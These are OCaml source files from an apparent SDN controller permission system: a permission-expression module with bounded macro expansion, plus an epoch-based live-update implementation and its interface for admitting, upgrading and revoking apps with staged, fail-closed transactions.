      (** Wildcard filter: the mask bits of [field] must be wildcarded
          in issued rules. *)
  | Action_f of action_kind
  | Owner of ownership
  | Max_priority of int
  | Min_priority of int
  | Max_rule_count of int
  | Pkt_out of pkt_out_kind
  | Phys_topo of phys_topo
  | Virt_topo of virt_topo
  | Callback of callback_kind
  | Stats_level of Shield_openflow.Stats.level
  | Macro of string  (** Unexpanded administrator stub. *)

type expr =
  | True
  | False
  | Atom of singleton
  | And of expr * expr
  | Or of expr * expr
  | Not of expr

(* Smart constructors ------------------------------------------------------ *)

let atom s = Atom s

let conj a b =
  match (a, b) with
  | True, x | x, True -> x
  | False, _ | _, False -> False
  | _ -> And (a, b)

let disj a b =
  match (a, b) with
  | False, x | x, False -> x
  | True, _ | _, True -> True
  | _ -> Or (a, b)

let neg = function True -> False | False -> True | Not e -> e | e -> Not e

let conj_list = function
  | [] -> True
  | e :: rest -> List.fold_left conj e rest

let disj_list = function
  | [] -> False
  | e :: rest -> List.fold_left disj e rest

let ip_subnet field addr mask =
  Atom (Pred { field; value = V_ip addr; mask = Some mask })

let ip_exact field addr = Atom (Pred { field; value = V_ip addr; mask = None })
let int_field field v = Atom (Pred { field; value = V_int v; mask = None })
let own_flows = Atom (Owner Own_flows)
let all_flows = Atom (Owner All_flows)

(* Structure --------------------------------------------------------------- *)

(** The attribute dimension a singleton inspects.  Two singletons can
    stand in an inclusion relation only when their dimensions match. *)
type dimension =
  | D_pred of field
  | D_wildcard of field
  | D_action
  | D_owner
  | D_max_priority
  | D_min_priority
  | D_rule_count
  | D_pkt_out
  | D_phys_topo
  | D_virt_topo
  | D_callback of callback_kind
  | D_stats
  | D_macro of string

let dimension = function
  | Pred { field; _ } -> D_pred field
  | Wildcard { field; _ } -> D_wildcard field
  | Action_f _ -> D_action
  | Owner _ -> D_owner
  | Max_priority _ -> D_max_priority
  | Min_priority _ -> D_min_priority
  | Max_rule_count _ -> D_rule_count
  | Pkt_out _ -> D_pkt_out
  | Phys_topo _ -> D_phys_topo
  | Virt_topo _ -> D_virt_topo
  | Callback k -> D_callback k
  | Stats_level _ -> D_stats
  | Macro name -> D_macro name

(* Structural folds run on untrusted expressions during admission
   (docs/VETTING.md), so they use explicit work lists instead of
   recursing on the tree: a 100k-deep bomb must be measurable without
   risking the stack. *)

let fold_atoms f acc expr =
  let rec go acc = function
    | [] -> acc
    | e :: rest -> (
      match e with
      | True | False -> go acc rest
      | Atom s -> go (f acc s) rest
      | Not e -> go acc (e :: rest)
      | And (a, b) | Or (a, b) -> go acc (a :: b :: rest))
  in
  go acc [ expr ]

let macros expr =
  fold_atoms (fun acc s -> match s with Macro m -> m :: acc | _ -> acc) [] expr
  |> List.sort_uniq compare

let has_macros expr = macros expr <> []

(** Substitute macro atoms using [lookup], expanding to fixed point:
    a macro whose replacement itself contains macros keeps expanding,
    so [LET] chains (A -> B -> C) resolve fully instead of silently
    surfacing as unresolved stubs.  Cyclic chains (A -> ... -> A) stop
    at the cycle and leave the inner occurrence unexpanded (it then
    reports as an unresolved macro, which is the fail-closed reading).
    [max_chain] caps the substitution chain depth and [max_nodes] the
    total nodes visited/built — a doubling macro bomb degrades to
    unexpanded stubs instead of exhausting memory.  Ticks the ambient
    {!Budget} per node. *)
let expand_macros ?(max_chain = 64) ?(max_nodes = 200_000) lookup expr =
  let remaining = ref max_nodes in
  let rec go stack chain e =
    if !remaining <= 0 then begin
      Budget.note
        "expand: macro expansion node cap reached; remaining stubs left \
         unexpanded";
      e
    end
    else begin
      decr remaining;
      Budget.alloc_nodes 1;
      match e with
      | (True | False) as e -> e
      | Atom (Macro name) as e -> (
        if List.mem name stack then begin
          Budget.note
            (Printf.sprintf
               "expand: cyclic macro chain through %s; left unexpanded" name);
          e
        end
        else if chain >= max_chain then begin
          Budget.note
            (Printf.sprintf
               "expand: macro chain longer than %d at %s; left unexpanded"
               max_chain name);
          e
        end
        else
          match lookup name with
          | Some replacement -> go (name :: stack) (chain + 1) replacement
          | None -> e)
      | Atom _ as e -> e
      | And (a, b) -> conj (go stack chain a) (go stack chain b)
      | Or (a, b) -> disj (go stack chain a) (go stack chain b)
      | Not e -> neg (go stack chain e)
    end
  in
  go [] 0 expr

let size expr =
  let rec go n = function
    | [] -> n
    | e :: rest -> (
      match e with
      | True | False | Atom _ -> go (n + 1) rest
      | Not e -> go (n + 1) (e :: rest)
      | And (a, b) | Or (a, b) -> go (n + 1) (a :: b :: rest))
  in
  go 0 [ expr ]

let depth expr =
  let rec go best = function
    | [] -> best
    | (e, d) :: rest -> (
      match e with
      | True | False | Atom _ -> go (max best d) rest
      | Not e -> go best ((e, d + 1) :: rest)
      | And (a, b) | Or (a, b) -> go best ((a, d + 1) :: (b, d + 1) :: rest))
  in
  go 0 [ (expr, 1) ]

(* Equality ---------------------------------------------------------------- *)

let equal_singleton (a : singleton) (b : singleton) = a = b

let rec equal_expr a b =
  match (a, b) with
  | True, True | False, False -> true
  | Atom x, Atom y -> equal_singleton x y
  | And (a1, a2), And (b1, b2) | Or (a1, a2), Or (b1, b2) ->
    equal_expr a1 b1 && equal_expr a2 b2
  | Not x, Not y -> equal_expr x y
  | _ -> false

(* Pretty-printing in the permission-language concrete syntax ------------- *)

let pp_int_set ppf s =
  Fmt.(list ~sep:comma int) ppf (Int_set.elements s)

let pp_singleton ppf = function
  | Pred { field; value; mask = None } ->
    Fmt.pf ppf "%s %a" (field_to_string field) pp_value value
  | Pred { field; value; mask = Some m } ->
    Fmt.pf ppf "%s %a MASK %a" (field_to_string field) pp_value value pp_ipv4 m
  | Wildcard { field; mask } ->
    Fmt.pf ppf "WILDCARD %s %a" (field_to_string field) pp_ipv4 mask
  | Action_f A_drop -> Fmt.string ppf "ACTION DROP"
  | Action_f A_forward -> Fmt.string ppf "ACTION FORWARD"
  | Action_f (A_modify f) -> Fmt.pf ppf "ACTION MODIFY %s" (field_to_string f)
  | Owner Own_flows -> Fmt.string ppf "OWN_FLOWS"
  | Owner All_flows -> Fmt.string ppf "ALL_FLOWS"
  | Max_priority n -> Fmt.pf ppf "MAX_PRIORITY %d" n
  | Min_priority n -> Fmt.pf ppf "MIN_PRIORITY %d" n
  | Max_rule_count n -> Fmt.pf ppf "MAX_RULE_COUNT %d" n
  | Pkt_out From_pkt_in -> Fmt.string ppf "FROM_PKT_IN"
  | Pkt_out Arbitrary -> Fmt.string ppf "ARBITRARY"
  | Phys_topo { switches; links } ->
    if Int_set.is_empty links then
      Fmt.pf ppf "SWITCH %a" pp_int_set switches
    else Fmt.pf ppf "SWITCH %a LINK %a" pp_int_set switches pp_int_set links
  | Virt_topo Single_big_switch ->
    Fmt.string ppf "VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS"
  | Virt_topo (Switch_groups groups) ->
    Fmt.pf ppf "VIRTUAL %a"
      Fmt.(
        list ~sep:comma (fun ppf (set, vid) ->
            pf ppf "{ %a } AS %d" pp_int_set set vid))
      groups
  | Callback Event_interception -> Fmt.string ppf "EVENT_INTERCEPTION"
  | Callback Modify_event_order -> Fmt.string ppf "MODIFY_EVENT_ORDER"
  | Stats_level l -> Fmt.string ppf (Shield_openflow.Stats.level_to_string l)
  | Macro name -> Fmt.string ppf name

let rec pp ppf = function
  | True -> Fmt.string ppf "TRUE"
  | False -> Fmt.string ppf "FALSE"
  | Atom s -> pp_singleton ppf s
  | And (a, b) -> Fmt.pf ppf "(%a AND %a)" pp a pp b
  | Or (a, b) -> Fmt.pf ppf "(%a OR %a)" pp a pp b
  | Not e -> Fmt.pf ppf "NOT %a" pp e

let to_string = Fmt.to_to_string pp
