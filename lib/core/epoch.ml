(* Epoch-based live update (docs/CHURN.md).

   The design is RCU-shaped.  Writers (lifecycle transactions,
   serialized by [t.mutex]) prepare a complete immutable [record] off
   to the side — reconciled manifest, compiled engine, packaged
   checker — and publish it with one [Atomic.exchange] per app slot.
   Readers never lock: they load the slot once at the start of a
   mediated call and run every phase of that call (check, rewrite,
   result vetting, explanation) against the loaded record.  In-flight
   calls on the old record finish undisturbed because the record is
   immutable and unreferenced slots are simply collected.

   Rollback is by construction: until the publish stage nothing shared
   is mutated, so a failure in vet / reconcile / lint / verify /
   compile aborts by just not publishing.  The publish stage itself
   keeps an undo list — if the k-th swap of a multi-app commit faults,
   the k-1 already-swapped slots are restored before the failure is
   reported, so readers only ever observe the pre- or post-transaction
   epoch.  (Between the fault and the restore a reader can observe a
   prefix of the new records; each is individually consistent, and the
   restore converges to the old epoch.  The global epoch counter only
   advances after the last swap succeeds.) *)

open Shield_net
open Shield_controller

type record = {
  epoch : int;
  app : string;
  manifest : Perm.manifest;
  engine : Engine.t;
  checker : Api.checker;
}

type slot = Active of record | Absent of { epoch : int; reason : string }

(* Delta-reconciliation dependency analysis (docs/CHURN.md).  A
   statement's dependency set is the set of app names its permission
   expressions can reach through the policy's LET bindings.  [Global]
   marks exclusivity constraints, which iterate over every admitted
   app; [Unknown] marks anything the static analysis cannot resolve
   (unbound variables, filter macros in permission position, cyclic
   bindings) and forces whole-policy reconciliation. *)
type deps = Apps of string list | Global | Unknown

type t = {
  policy : Policy.t;
  sdeps : (Policy.stmt * deps) list;  (* policy order, one entry per stmt *)
  limits : Budget.limits option;
  cache_size : int option;
  strategy : [ `Interpreted | `Automaton ];
  strict_verify : bool;
  topo : Topology.t option;
  ownership : Ownership.t;
  mutex : Mutex.t;  (* serializes transactions; readers never take it *)
  epoch_counter : int Atomic.t;
  slots : (string * slot Atomic.t) list Atomic.t;
      (* Functional assoc list behind an atomic so lock-free readers
         always see a fully-built list; writers replace it under
         [mutex]. *)
  mutable originals : (string * Perm.manifest) list;
      (* Vetted pre-reconciliation manifests of the live apps — the
         inputs whole-policy reconciliation restarts from. *)
  mutable cookies : (string * int) list;
      (* Stable per-app engine cookies: an upgrade (or reinstall)
         keeps the app's cookie so its ownership records survive. *)
  mutable next_cookie : int;
  delta_runs : int Atomic.t;
  full_runs : int Atomic.t;
}

(* Dependency analysis ------------------------------------------------------ *)

let union a b =
  match (a, b) with
  | Unknown, _ | _, Unknown -> Unknown
  | Global, _ | _, Global -> Global
  | Apps x, Apps y -> Apps (List.sort_uniq compare (x @ y))

let rec expr_deps binds seen (e : Policy.perm_expr) : deps =
  match e with
  | Policy.P_block _ -> Apps []
  | Policy.P_meet (a, b) | Policy.P_join (a, b) ->
    union (expr_deps binds seen a) (expr_deps binds seen b)
  | Policy.P_var v -> (
    if List.mem v seen then Unknown (* cyclic binding: reconcile skips it *)
    else
      match List.assoc_opt v binds with
      | Some (Policy.B_app app) -> Apps [ app ]
      | Some (Policy.B_perm e') -> expr_deps binds (v :: seen) e'
      | Some (Policy.B_filter _) | None -> Unknown)

let stmt_deps binds (s : Policy.stmt) : deps =
  match s with
  (* LETs are replayed in every delta subset (they cost nothing and
     later statements need them), so their own deps never matter. *)
  | Policy.Let _ -> Apps []
  | Policy.Assert_exclusive _ -> Global
  | Policy.Assert ae ->
    let rec go = function
      | Policy.A_cmp (a, _, b) ->
        union (expr_deps binds [] a) (expr_deps binds [] b)
      | Policy.A_and (x, y) | Policy.A_or (x, y) -> union (go x) (go y)
      | Policy.A_not x -> go x
    in
    go ae

let analyze (policy : Policy.t) : (Policy.stmt * deps) list =
  let binds =
    List.filter_map
      (function Policy.Let (n, rhs) -> Some (n, rhs) | _ -> None)
      policy
  in
  List.map (fun s -> (s, stmt_deps binds s)) policy

(* Construction ------------------------------------------------------------- *)

let gauge_names =
  [ "market:epoch"; "market:apps"; "market:reconcile:delta";
    "market:reconcile:full" ]

let register_gauges t =
  let counter f () =
    let v = f () in
    { Metrics.depth = v; hwm = v }
  in
  Metrics.register_gauge "market:epoch" (counter (fun () -> Atomic.get t.epoch_counter));
  Metrics.register_gauge "market:apps"
    (counter (fun () ->
         List.length
           (List.filter
              (fun (_, c) ->
                match Atomic.get c with Active _ -> true | Absent _ -> false)
              (Atomic.get t.slots))));
  Metrics.register_gauge "market:reconcile:delta"
    (counter (fun () -> Atomic.get t.delta_runs));
  Metrics.register_gauge "market:reconcile:full"
    (counter (fun () -> Atomic.get t.full_runs))

let close (_ : t) = List.iter Metrics.unregister_gauge gauge_names

let create ?limits ?cache_size ?(strategy = `Interpreted)
    ?(strict_verify = false) ?topo ~policy () : (t, string) result =
  match Vetting.vet_policy ?limits policy with
  | Vetting.Rejected r ->
    Error (Printf.sprintf "policy rejected at %s: %s" r.Vetting.stage r.reason)
  | Vetting.Admitted a | Vetting.Degraded (a, _) ->
    let policy = a.Vetting.value in
    Ok
      (let t =
         { policy; sdeps = analyze policy; limits; cache_size; strategy;
           strict_verify; topo; ownership = Ownership.create ();
           mutex = Mutex.create (); epoch_counter = Atomic.make 0;
           slots = Atomic.make []; originals = []; cookies = [];
           next_cookie = 1; delta_runs = Atomic.make 0;
           full_runs = Atomic.make 0 }
       in
       register_gauges t;
       t)

(* Slots and readers -------------------------------------------------------- *)

let find_cell t app = List.assoc_opt app (Atomic.get t.slots)

(* Get-or-create an app's slot cell.  [slot_cell_locked] is for
   callers already inside the transaction mutex (it is not
   re-entrant); [slot_cell] takes it for the public [checker] path. *)
let slot_cell_locked t app =
  match find_cell t app with
  | Some c -> c
  | None ->
    let c = Atomic.make (Absent { epoch = 0; reason = "never installed" }) in
    Atomic.set t.slots ((app, c) :: Atomic.get t.slots);
    c

let slot_cell t app =
  match find_cell t app with
  | Some c -> c
  | None ->
    Mutex.lock t.mutex;
    let c = slot_cell_locked t app in
    Mutex.unlock t.mutex;
    c

let epoch t = Atomic.get t.epoch_counter

let slot_of t app =
  match find_cell t app with
  | Some c -> Atomic.get c
  | None -> Absent { epoch = 0; reason = "never installed" }

let current t app =
  match slot_of t app with Active r -> Some r | Absent _ -> None

let apps t =
  List.filter_map
    (fun (name, c) ->
      match Atomic.get c with
      | Active r -> Some (name, r.epoch)
      | Absent _ -> None)
    (Atomic.get t.slots)
  |> List.sort compare

let ownership t = t.ownership

let reconcile_counts t = (Atomic.get t.delta_runs, Atomic.get t.full_runs)

(* The fail-closed checker an [Absent] slot resolves to. *)
let absent_checker reason =
  let msg = "market: " ^ reason in
  { Api.deny_all with
    Api.check = (fun _ -> Api.Deny msg);
    check_transaction =
      (fun calls -> match calls with [] -> Ok () | _ -> Error (0, msg)) }

let pinned = function
  | Active r -> r.checker
  | Absent { reason; _ } -> absent_checker reason

let checker t app : Api.checker =
  let cell = slot_cell t app in
  let resolve () = pinned (Atomic.get cell) in
  { Api.check = (fun call -> (resolve ()).Api.check call);
    check_batch =
      Some
        (fun calls ->
          let c = resolve () in
          match c.Api.check_batch with
          | Some f -> f calls
          | None -> Array.map c.Api.check calls);
    check_transaction = (fun calls -> (resolve ()).Api.check_transaction calls);
    rewrite = (fun call -> (resolve ()).Api.rewrite call);
    combine = (fun call results -> (resolve ()).Api.combine call results);
    vet_result = (fun call r -> (resolve ()).Api.vet_result call r);
    observe = (fun change -> (resolve ()).Api.observe change);
    granted = (fun cap -> (resolve ()).Api.granted cap);
    explain =
      Some
        (fun call ->
          let c = resolve () in
          match c.Api.explain with
          | Some f -> f call
          | None -> (c.Api.check call, Api.no_check_info));
    snapshot = Some resolve }

(* Staged transactions ------------------------------------------------------ *)

exception Stage_failed of { stage : string; reason : string }

let failed stage reason = raise (Stage_failed { stage; reason })

let failure_reason = function
  | Faults.Injected site -> "injected fault at " ^ site
  | Budget.Exhausted { stage; reason; _ } ->
    Printf.sprintf "budget exhausted (%s): %s" stage reason
  | Invalid_argument m | Failure m -> m
  | exn -> Printexc.to_string exn

(* Run one stage: record its wall-clock duration — on failure too, so
   a rolled-back transaction's span still shows where the time went —
   and convert any escaping exception (injected fault, budget
   exhaustion, compile rejection) into [Stage_failed] carrying this
   stage's name. *)
let stage stages name f =
  let t0 = Metrics.now () in
  let before = !stages in
  let record () =
    (* Entries [f] itself pushed (the publish stage's undo walk) stay
       *after* this stage's own entry in execution order, i.e. nearer
       the head of the reversed-accumulation list. *)
    let rec during l = if l == before then [] else
        match l with [] -> [] | x :: tl -> x :: during tl
    in
    stages := during !stages @ ((name, Metrics.now () -. t0) :: before)
  in
  match f () with
  | v ->
    record ();
    v
  | exception (Stage_failed _ as e) ->
    record ();
    raise e
  | exception exn ->
    record ();
    failed name (failure_reason exn)

let published t =
  List.filter_map
    (fun (name, c) ->
      match Atomic.get c with
      | Active r -> Some (name, r.manifest)
      | Absent _ -> None)
    (Atomic.get t.slots)

let cookie_for t name =
  match List.assoc_opt name t.cookies with
  | Some c -> c
  | None ->
    let c = t.next_cookie in
    t.next_cookie <- c + 1;
    t.cookies <- (name, c) :: t.cookies;
    c

(* The reconcile stage.  [changed] is the app being installed/upgraded
   ([Some (app, manifest)]) or revoked ([None]); [app] names it either
   way.  Returns the statements that ran (for verification), the
   resulting report, and whether the delta path was committed. *)
let reconcile_stage t ~app ~changed () :
    Policy.t * Reconcile.report * bool =
  let scoped f =
    match t.limits with
    | None -> f ()
    | Some limits -> Budget.with_scope (Budget.create ~limits ()) f
  in
  let full () =
    Atomic.incr t.full_runs;
    let apps =
      let rest = List.remove_assoc app t.originals in
      match changed with Some (a, m) -> (a, m) :: rest | None -> rest
    in
    (t.policy, scoped (fun () -> Reconcile.run ~apps t.policy), false)
  in
  if List.exists (fun (_, d) -> d = Unknown) t.sdeps then full ()
  else
    (* Statements whose dependency set reaches the changed app, plus
       every LET (cheap, and later statements need the bindings) and
       every exclusivity constraint (they range over all apps). *)
    let subset =
      List.filter
        (fun (s, d) ->
          match (s, d) with
          | Policy.Let _, _ -> true
          | _, Global -> true
          | _, Apps l -> List.mem app l
          | _, Unknown -> true)
        t.sdeps
    in
    let is_constraint = function Policy.Let _ -> false | _ -> true in
    let sub_constraints =
      List.length (List.filter (fun (s, _) -> is_constraint s) subset)
    in
    let all_constraints =
      List.length (List.filter (fun (s, _) -> is_constraint s) t.sdeps)
    in
    if sub_constraints = all_constraints then full ()
    else
      let policy' = List.map fst subset in
      let others = List.remove_assoc app (published t) in
      let delta_apps =
        match changed with Some (a, m) -> (a, m) :: others | None -> others
      in
      let report = scoped (fun () -> Reconcile.run ~apps:delta_apps policy') in
      (* The delta contract (docs/CHURN.md): commit the delta result
         only when it touches nothing but the changed app.  A run that
         would repair any *other* app falls back to whole-policy
         reconciliation from the originals, which computes the exact
         fixed point (delta evaluates others at their published values
         and so cannot re-expand a previously tightened manifest). *)
      let cross_repair =
        List.exists
          (fun (name, m) ->
            name <> app
            &&
            match List.assoc_opt name others with
            | Some cur -> not (Perm.equal cur m)
            | None -> true)
          report.Reconcile.manifests
      in
      if cross_repair then full ()
      else begin
        Atomic.incr t.delta_runs;
        (policy', report, true)
      end

let verify_stage t stages policy' report () =
  Faults.point Faults.Swap_verify;
  let cert = Verify.verify_report ?limits:t.limits policy' report in
  (* Advisory: record the certificate's least-repair dimension as a
     zero-duration pseudo-stage, so the transaction span (and the
     lat:stage:* histograms behind it) names whether this commit's
     truncations were provably minimal — even when the stage then
     fails on the verdict. *)
  stages := ("verify:minimality:" ^ Verify.minimality_label cert, 0.) :: !stages;
  (match cert.Verify.verdict with
  | Verify.Certified -> ()
  | Verify.Refuted ces ->
    failed "verify"
      (Printf.sprintf "certificate refuted (%d counterexample%s)"
         (List.length ces)
         (if List.length ces = 1 then "" else "s"))
  | Verify.Unverified why ->
    if t.strict_verify then failed "verify" ("unverified: " ^ why));
  cert

(* Build the records for every app whose manifest the transaction
   publishes.  Nothing shared is touched: a failure here (including an
   injected [Swap_compile] fault) aborts with all slots intact. *)
let compile_stage t ~next_epoch to_publish () =
  List.map
    (fun (name, manifest) ->
      Faults.point Faults.Swap_compile;
      let engine =
        Engine.create ?topo:t.topo ?cache_size:t.cache_size
          ~strategy:t.strategy ~ownership:t.ownership ~app_name:name
          ~cookie:(cookie_for t name) manifest
      in
      ( name,
        Active
          { epoch = next_epoch; app = name; manifest; engine;
            checker = Engine.checker engine } ))
    to_publish

(* Swap the prepared slots in, keeping an undo list: a fault mid-way
   (site [Swap_publish], armed before *each* swap) restores every
   already-swapped slot, so the commit is all-or-nothing.  The global
   epoch only advances after the last swap.  The undo walk is timed
   into a ["rollback-undo"] stage entry so a rolled-back transaction's
   span accounts for the restore, not just the stages that ran. *)
let publish_stage t ~next_epoch ~stages entries () =
  let swapped = ref [] in
  (try
     List.iter
       (fun (cell, slot) ->
         Faults.point Faults.Swap_publish;
         let old = Atomic.exchange cell slot in
         swapped := (cell, old) :: !swapped)
       entries
   with exn ->
     let u0 = Metrics.now () in
     List.iter (fun (cell, old) -> Atomic.set cell old) !swapped;
     stages := ("rollback-undo", Metrics.now () -. u0) :: !stages;
     raise exn);
  Atomic.set t.epoch_counter next_epoch

let republished ~app records =
  List.filter_map
    (fun (name, _) -> if name = app then None else Some name)
    records
  |> List.sort compare

(* Install / upgrade. *)
let apply_admit t ~upgrade ~app ~src stages =
  let manifest =
    stage stages "vet" (fun () ->
        (match (upgrade, List.mem_assoc app t.originals) with
        | false, true -> failed "vet" ("already installed: " ^ app)
        | true, false -> failed "vet" ("not installed: " ^ app)
        | _ -> ());
        match Vetting.vet_manifest ?limits:t.limits src with
        | Vetting.Rejected r ->
          failed "vet"
            (Printf.sprintf "manifest rejected at %s: %s" r.Vetting.stage
               r.reason)
        | Vetting.Admitted a | Vetting.Degraded (a, _) -> a.Vetting.value)
  in
  let policy', report, delta =
    stage stages "reconcile" (fun () ->
        let r = reconcile_stage t ~app ~changed:(Some (app, manifest)) () in
        let _, report, _ = r in
        (match List.assoc_opt app report.Reconcile.unresolved_macros with
        | Some (_ :: _ as stubs) ->
          failed "reconcile"
            ("unresolved developer stubs: " ^ String.concat ", " stubs)
        | _ -> ());
        r)
  in
  (* Advisory: findings never block admission (the vetting pipeline's
     contract), but the stage is timed and the counters feed the
     lint-severity gauges like every other lint run. *)
  let _findings =
    stage stages "lint" (fun () ->
        Lint.lint_manifest ?limits:t.limits ~label:("app " ^ app)
          (List.assoc app report.Reconcile.manifests))
  in
  let _cert = stage stages "verify" (verify_stage t stages policy' report) in
  let next_epoch = Atomic.get t.epoch_counter + 1 in
  let to_publish =
    (* The changed app always republishes; under a full reconcile other
       apps republish exactly when their reconciled manifest moved. *)
    List.filter
      (fun (name, m) ->
        name = app
        ||
        match List.assoc_opt name (published t) with
        | Some cur -> not (Perm.equal cur m)
        | None -> false (* not live: nothing to republish *))
      report.Reconcile.manifests
  in
  let records = stage stages "compile" (compile_stage t ~next_epoch to_publish) in
  let entries = List.map (fun (name, s) -> (slot_cell_locked t name, s)) records in
  stage stages "publish" (publish_stage t ~next_epoch ~stages entries);
  t.originals <- (app, manifest) :: List.remove_assoc app t.originals;
  Market.Committed
    { epoch = next_epoch; delta; republished = republished ~app records;
      stages = List.rev !stages }

(* Revoke: publish a fail-closed [Absent] slot for the app (in-flight
   calls finish on the old record they already hold) and re-reconcile
   the survivors — bounds that referenced the revoked app's manifest
   now resolve it to the empty manifest. *)
let apply_revoke t ~app stages =
  stage stages "vet" (fun () ->
      if not (List.mem_assoc app t.originals) then
        failed "vet" ("not installed: " ^ app));
  let policy', report, delta =
    stage stages "reconcile" (reconcile_stage t ~app ~changed:None)
  in
  let _cert = stage stages "verify" (verify_stage t stages policy' report) in
  let next_epoch = Atomic.get t.epoch_counter + 1 in
  let to_publish =
    List.filter
      (fun (name, m) ->
        name <> app
        &&
        match List.assoc_opt name (published t) with
        | Some cur -> not (Perm.equal cur m)
        | None -> false)
      report.Reconcile.manifests
  in
  let records = stage stages "compile" (compile_stage t ~next_epoch to_publish) in
  let entries =
    (slot_cell_locked t app, Absent { epoch = next_epoch; reason = "revoked" })
    :: List.map (fun (name, s) -> (slot_cell_locked t name, s)) records
  in
  stage stages "publish" (publish_stage t ~next_epoch ~stages entries);
  t.originals <- List.remove_assoc app t.originals;
  Market.Committed
    { epoch = next_epoch; delta; republished = republished ~app records;
      stages = List.rev !stages }

let apply t (req : Market.request) : Market.outcome =
  Mutex.lock t.mutex;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock t.mutex)
    (fun () ->
      let stages = ref [] in
      try
        match req.Market.kind with
        | Market.Install ->
          apply_admit t ~upgrade:false ~app:req.Market.app
            ~src:req.Market.manifest_src stages
        | Market.Upgrade ->
          apply_admit t ~upgrade:true ~app:req.Market.app
            ~src:req.Market.manifest_src stages
        | Market.Revoke -> apply_revoke t ~app:req.Market.app stages
      with Stage_failed { stage; reason } ->
        Market.Rolled_back
          { stage; reason; epoch = Atomic.get t.epoch_counter;
            stages = List.rev !stages })

let market ?capacity ?sandbox ?trace ?health ?flight t =
  Market.create ?capacity ?sandbox ?trace ?health ?flight ~exec:(apply t) ()

(* Invariants --------------------------------------------------------------- *)

let consistent t =
  let g = Atomic.get t.epoch_counter in
  let slots = Atomic.get t.slots in
  let records_ok =
    List.for_all
      (fun (name, c) ->
        match Atomic.get c with
        | Absent { epoch; _ } -> epoch >= 0 && epoch <= g
        | Active r ->
          r.epoch > 0 && r.epoch <= g && r.app = name
          && Perm.macros r.manifest = [])
      slots
  in
  let live =
    List.filter_map
      (fun (name, c) ->
        match Atomic.get c with Active _ -> Some name | Absent _ -> None)
      slots
    |> List.sort compare
  in
  let installed = List.sort compare (List.map fst t.originals) in
  records_ok && live = installed

let pp_slot ppf = function
  | Active r -> Fmt.pf ppf "active@@%d" r.epoch
  | Absent { epoch; reason } -> Fmt.pf ppf "absent@@%d (%s)" epoch reason
