(** Epoch-based live update of a running deployment (docs/CHURN.md).

    An SDN app market admits, upgrades and revokes apps while the
    controller mediates traffic.  This module makes that churn
    crash-safe and non-disruptive: every admitted app's {e reconciled
    manifest + compiled engine (automaton, decision-cache slice) +
    packaged checker} is one immutable {!record} published by a single
    atomic store into the app's slot.  Readers resolve the slot once
    per mediated call (via the {!Shield_controller.Api.checker}
    [snapshot] hook), so an in-flight call finishes entirely on the
    epoch it started on and a call issued after a swap sees entirely
    the new one — never a torn mix of old manifest and new automaton.

    Lifecycle requests run as staged transactions
    (vet → reconcile → lint → verify → compile → publish).  Any stage
    failure — budget exhaustion, a refuted certificate, an injected
    fault ({!Shield_controller.Faults} sites [Swap_verify],
    [Swap_compile], [Swap_publish]) — rolls the deployment back to the
    pre-transaction epoch: fail-{e safe} for existing traffic (the old
    records keep serving), fail-{e closed} for the new app (admission
    denied, surfaced through the market's audit notification).

    Re-reconciliation is {e delta} where the policy's dependency
    structure allows it: only statements whose free variables reach
    the changed app re-run, against the published fixed point of the
    other apps.  Inconclusive dependency analysis, or a delta run that
    would repair an app other than the changed one, falls back to
    whole-policy reconciliation from the original (pre-repair)
    manifests — see docs/CHURN.md for the exact soundness contract. *)

open Shield_net
open Shield_controller

(** One app's published state: everything a mediated call needs,
    assembled once at commit time and immutable thereafter. *)
type record = {
  epoch : int;  (** Global epoch at which this record was published. *)
  app : string;
  manifest : Perm.manifest;  (** Reconciled, macro-free. *)
  engine : Engine.t;
      (** Compiled checker: filter evaluation (or the {!Automaton}
          decision DAG), the app's {!Decision_cache} slice, ownership
          wiring. *)
  checker : Api.checker;  (** [Engine.checker engine], epoch-pinned. *)
}

(** An app's slot.  [Absent] is fail-closed: the slot's checker denies
    every call, carrying the reason (never installed / revoked). *)
type slot = Active of record | Absent of { epoch : int; reason : string }

type t

val create :
  ?limits:Budget.limits ->
  ?cache_size:int ->
  ?strategy:[ `Interpreted | `Automaton ] ->
  ?strict_verify:bool ->
  ?topo:Topology.t ->
  policy:string ->
  unit ->
  (t, string) result
(** Build a deployment around a policy (vetted once, by
    {!Vetting.vet_policy}; [Error] when it is rejected).  [limits]
    budget every transaction stage; [cache_size] / [strategy] / [topo]
    are passed to each admitted app's {!Engine.create}.
    [strict_verify] (default [false]) additionally rolls a transaction
    back when its certificate is [Unverified] (budget ran out) rather
    than only on [Refuted].

    Registers the [market:epoch], [market:apps],
    [market:reconcile:delta] and [market:reconcile:full] gauges;
    {!close} unregisters them. *)

val apply : t -> Market.request -> Market.outcome
(** Run one lifecycle transaction to completion.  Serialized by an
    internal mutex (the {!Market} worker is the intended single
    caller; direct calls are safe too).  Never raises: every stage
    failure becomes [Rolled_back] with the stage name and the still-
    current epoch.  Install of a present app and upgrade/revoke of an
    absent one roll back at stage ["vet"]. *)

val market :
  ?capacity:int ->
  ?sandbox:Sandbox.t ->
  ?trace:Trace.t ->
  ?health:Health.t ->
  ?flight:Forensics.Flight.t ->
  t ->
  Market.t
(** [Market.create ~exec:(apply t)] — the update queue wired to this
    deployment.  The optional observability hooks are passed through
    to {!Market.create}: [trace] records a transaction span (with the
    vet…publish stage children this executor times) per lifecycle
    request, [health] sees rollbacks and stage latencies, [flight]
    captures an incident bundle per rollback. *)

val checker : t -> string -> Api.checker
(** The app's {e live} checker, valid across swaps for the lifetime of
    the deployment: hand this to {!Runtime.create}.  Every entry point
    resolves the app's slot exactly once (one atomic load) and runs
    entirely on that record; its [snapshot] field exposes the same
    resolution so the runtime can pin a whole mediated call to one
    epoch.  While the app is absent or revoked the resolved checker
    denies everything. *)

val epoch : t -> int
(** Current global epoch (0 before the first commit). *)

val slot_of : t -> string -> slot
val current : t -> string -> record option
(** [current t app] is the app's record, [None] when absent. *)

val apps : t -> (string * int) list
(** Live apps with the epoch each was last published at. *)

val ownership : t -> Ownership.t
(** The deployment-wide ownership store shared by all engines. *)

val reconcile_counts : t -> int * int
(** (delta runs, full runs) — full includes delta fallbacks. *)

val close : t -> unit
(** Unregister the deployment's gauges.  The slots and engines are
    plain values; dropping the last reference collects them. *)

val consistent : t -> bool
(** Structural epoch invariants, cheap enough to gate on after every
    transaction: each published record's epoch is positive and at most
    the global epoch, its manifest is macro-free, its key matches its
    [app] field, and exactly the live apps are tracked as installed.
    A rollback bug (torn publish, counter drift) trips this. *)

val pp_slot : Format.formatter -> slot -> unit
